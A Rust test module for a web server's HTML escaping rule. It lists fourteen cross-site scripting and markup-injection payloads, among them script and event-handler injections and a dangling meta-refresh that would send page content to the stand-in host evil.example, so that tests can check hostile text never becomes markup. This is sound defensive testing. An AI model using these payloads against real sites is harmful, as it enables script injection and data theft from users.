//! B7: text from a person or a program is never markup in the server's HTML. A page with hostile text must have the
//! same tags and attributes as the page with harmless text, one by one.

mod pages;
mod skeleton;
mod sources;

pub use skeleton::skeleton;

/// Texts that would open a tag, close one, or end an attribute, a comment or a script, if they were not escaped.
/// Each fits into a key's name.
pub const HOSTILE: [&str; 14] = [
    "</title><script>pwn(1)</script>",
    "</title><meta http-equiv=refresh content=0;url=//evil.example>",
    "</title><meta http-equiv=refresh content='0;url=//evil.example/?",
    "</textarea><svg onload=pwn(1)>",
    "</script><script>pwn(1)</script>",
    "<!--<script>",
    "--><img src=x onerror=pwn(1)>",
    "]]><svg/onload=pwn(1)>",
    "</style></noscript></select><svg onload=pwn(1)>",
    "\" autofocus onfocus=pwn(1) x=\"",
    "' onmouseover='pwn(1)",
    "&lt;script&gt;pwn(1)&lt;/script&gt; &amp;amp; &#60;b&#62;",
    "<svg onload=pwn(1)>",
    "<plaintext>",
];
